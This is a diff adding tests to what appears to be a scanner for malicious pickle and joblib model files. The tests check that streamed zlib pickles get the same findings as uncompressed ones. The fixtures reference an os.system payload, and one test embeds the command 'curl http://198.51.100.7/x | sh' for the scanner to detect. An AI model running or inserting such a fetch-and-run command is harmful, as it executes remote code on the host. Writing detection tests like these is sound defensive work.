@@ -5,6 +5,8 @@ import { describe, expect, it } from 'vitest';
 import { scan, fromBytes, SEVERITY_RANK, type FileReport } from '../../src/engine';
 import { asm, concat } from '../builders/pickle';
 import { gzipSync, zlibSync } from 'fflate';
+import { afterEach } from 'vitest';
+import { fflateFactory, usePlatformFlate } from '../../src/engine/io/flate';
 import { readdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 
@@ -147,5 +149,54 @@ describe('recall3-2026-12: the manifest covers the folder', () => {
     const manifest = JSON.parse(readFileSync(join(ROOT, 'manifest.json'), 'utf8')) as Array<{ file: string }>;
     const files = ['malicious', 'benign'].flatMap((d) => readdirSync(join(ROOT, d)).map((f) => `${d}/${f}`)).sort();
     expect(manifest.map((e) => e.file).sort()).toEqual(files);
+  });
+});
+
+describe('a zlib pickle decoded in one pass (its size unknown until the end) is judged like the same pickle uncompressed', () => {
+  const MiB = 1024 * 1024;
+  const STREAMED = { limits: { maxMemberBytes: MiB } }; // above 1 MiB the decoded pickle is streamed, not held
+  afterEach(() => usePlatformFlate(undefined));
+  const deflaters = () => {
+    const made = { n: 0 };
+    usePlatformFlate((format, onData) => { made.n++; return fflateFactory(format, onData); });
+    return made;
+  };
+  const keys = (r: FileReport) => r.findings.filter((f) => f.ruleId.startsWith('pickle/')).map((f) => `${f.ruleId} ${f.message}`).sort();
+  /** PROTO 4, FRAME declaring `extra` bytes more than follow, [<n random bytes>, os.system payload]. */
+  const framed = (n: number, extra: number) => {
+    const body = afterRandom(n).subarray(2); // without its PROTO
+    const len = new Uint8Array(8);
+    new DataView(len.buffer).setBigUint64(0, BigInt(body.length + extra), true);
+    return concat(new Uint8Array([0x80, 4, 0x95]), len, body);
+  };
+
+  it('a FRAME declaring 1,000 bytes more than a streamed 2 MiB zlib pickle holds is a frame-mismatch, as uncompressed', async () => {
+    const pkl = framed(2 * MiB, 1000);
+    const streamed = await scanBytes(zlibSync(pkl, { level: 1 }), 'model.joblib');
+    expect(keys(streamed)).toEqual(keys(await scanBytes(pkl)));
+    expect(streamed.findings.find((f) => f.ruleId === 'pickle/frame-mismatch')?.message).toMatch(/FRAME at 2 declares 2098\d+ bytes but only 2097\d+ remain/);
+  });
+
+  it('a FRAME that ends exactly at the end of a streamed zlib pickle raises no frame-mismatch', async () => {
+    const r = await scan(fromBytes(zlibSync(framed(2 * MiB, 0), { level: 1 }), 'model.joblib'), STREAMED);
+    expect(r.findings.some((f) => f.ruleId === 'pickle/frame-mismatch')).toBe(false);
+  });
+
+  it('8 MiB of zeros after STOP in a streamed zlib pickle: one bytes-after-stop, as uncompressed, in the peek and one walk (2 decoders)', async () => {
+    const pkl = concat(afterRandom(200_000), new Uint8Array(8 * MiB));
+    const made = deflaters();
+    const streamed = await scan(fromBytes(zlibSync(pkl, { level: 6 }), 'padded.joblib'), STREAMED);
+    expect(made.n).toBe(2);
+    usePlatformFlate(undefined);
+    expect(keys(streamed)).toEqual(keys(await scanBytes(pkl)));
+    expect(streamed.findings.find((f) => f.ruleId === 'pickle/bytes-after-stop')?.message).toMatch(/^8388608 bytes after stream 1 are not a pickle \(all zeros to the end\)$/);
+    expect(streamed.complete).toBe(true);
+  });
+
+  it('zeros then a shell command after STOP are still swept as junk (the command found), not taken for zero padding', async () => {
+    const pkl = concat(afterRandom(400_000), new Uint8Array(2 * MiB), new TextEncoder().encode('curl http://198.51.100.7/x | sh\n'));
+    const r = await scan(fromBytes(zlibSync(pkl, { level: 6 }), 'padded.joblib'), STREAMED);
+    expect(r.findings.find((f) => f.ruleId === 'pickle/bytes-after-stop')?.message).toMatch(/swept as <after-stop@\d+>/);
+    expect(r.findings.some((f) => /198\.51\.100\.7|curl/.test(`${f.message} ${f.evidence ?? ''}`))).toBe(true);
   });
 });
